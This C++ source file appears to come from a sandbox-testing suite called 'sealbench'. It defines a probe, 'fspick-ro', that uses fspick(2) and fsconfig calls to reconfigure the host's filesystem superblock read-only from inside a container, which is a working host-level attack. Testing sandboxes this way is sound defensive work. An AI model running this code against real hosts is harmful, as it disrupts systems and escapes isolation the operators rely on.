// fspick-ro: switches the host's filesystem read-only: no write, and yet an attack on the host.
#include <fcntl.h>
#include <sys/mount.h>

#include "sys/unique_fd.hpp"
#include "workloads/payloads/probe/attack.hpp"
#include "workloads/payloads/probe/probe.hpp"

namespace sealbench::probe {

const Probe& fspick_read_only() {
  static const Probe kProbe{
      .name = "fspick-ro",
      .goal = Goal::filesystem,
      .summary = "picks the superblock with fspick(2) and reconfigures it read-only",
      .mechanism =
          "the handle is the root of its mount, so fspick(2) reaches the superblock of the host's filesystem; "
          "CAP_SYS_ADMIN over it is enough",
      .attempt =
          [](Attack& attack) {
            const sys::UniqueFd picked(
                attack.did("fspick", ::fspick(attack.handle(), "", FSPICK_EMPTY_PATH | FSPICK_CLOEXEC)));
            if (!picked) return;
            attack.did("fsconfig ro", ::fsconfig(picked.get(), FSCONFIG_SET_FLAG, "ro", nullptr, 0));
            attack.did("fsconfig reconfigure", ::fsconfig(picked.get(), FSCONFIG_CMD_RECONFIGURE, nullptr, nullptr, 0));
          },
  };
  return kProbe;
}

}  // namespace sealbench::probe
